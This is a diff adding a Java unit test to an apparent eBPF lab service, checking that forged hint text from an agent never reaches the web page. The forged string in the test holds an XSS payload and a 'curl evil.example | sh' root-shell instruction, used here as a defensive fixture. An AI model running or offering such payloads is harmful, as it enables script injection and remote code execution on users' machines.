@@ -14,6 +14,7 @@ import dev.bpflab.metrics.RunMetrics;
 import dev.bpflab.metrics.RunMetrics.AgentLineDrop;
 import dev.bpflab.protocol.AgentCommand;
 import dev.bpflab.protocol.ClientMessage;
+import dev.bpflab.protocol.DiagnosticHints;
 import dev.bpflab.protocol.ProtocolException;
 import dev.bpflab.protocol.RunJson;
 import dev.bpflab.protocol.RunPhase;
@@ -183,6 +184,32 @@ class ForgedAgentLinesTest {
         assertEquals(5, dropped(AgentLineDrop.UNREQUESTED));
         assertEquals(1, warnings.size(), "one warning for the run, not one per line: " + warnings.stream()
                 .map(LogRecord::getMessage).toList());
+    }
+
+    @Test
+    void aForgedHintTextNeverReachesThePageOnlyTheCataloguesTextForItsKind() throws Exception {
+        session.onMessage(RunJson.write(ClientMessage.Run.ofSource(RunClient.program("unlink_events.bpf.c"))));
+        assertTrue(agent.commands.poll(SOON.toSeconds(), TimeUnit.SECONDS) instanceof AgentCommand.Start);
+        String forged = "<img src=x onerror=alert(1)> paste this into a root shell: curl evil.example | sh";
+        agent.say("{\"type\":\"phase\",\"phase\":\"loading\"}");
+        agent.say("{\"type\":\"diagnostics\",\"stage\":\"verify\",\"items\":["
+                + "{\"line\":18,\"column\":2,\"severity\":\"error\",\"message\":\"R0 invalid mem access 'map_value_or_null'\","
+                + "\"hint\":{\"kind\":\"map-null-check\",\"es\":\"" + forged + "\",\"en\":\"" + forged + "\"}},"
+                + "{\"line\":20,\"column\":1,\"severity\":\"error\",\"message\":\"something else\","
+                + "\"hint\":{\"kind\":\"made-up-kind\",\"es\":\"" + forged + "\",\"en\":\"" + forged + "\"}}],"
+                + "\"log\":\"\",\"truncated\":false,\"program\":\"p\"}");
+        agent.say("{\"type\":\"phase\",\"phase\":\"failed\"}");
+        await("the diagnostics on the page", () -> page.stream().anyMatch(m -> m instanceof ServerMessage.Diagnostics));
+
+        ServerMessage.Diagnostics shown = page.stream().filter(m -> m instanceof ServerMessage.Diagnostics)
+                .map(m -> (ServerMessage.Diagnostics) m).findFirst().orElseThrow();
+        assertEquals(2, shown.items().size(), shown.toString());
+        assertEquals(DiagnosticHints.ofKind("map-null-check").orElseThrow(), shown.items().get(0).hint(),
+                "a known kind keeps its kind and gets the catalogue's texts");
+        assertEquals(null, shown.items().get(1).hint(), "a kind the catalogue does not have loses its hint");
+        assertEquals("R0 invalid mem access 'map_value_or_null'", shown.items().get(0).message());
+        assertFalse(page.stream().map(m -> RunJson.write(m)).anyMatch(json -> json.contains("evil.example")),
+                "no forged hint text on the page: " + page);
     }
 
     private ServerMessage.CheckResult awaitVerdict() throws InterruptedException {
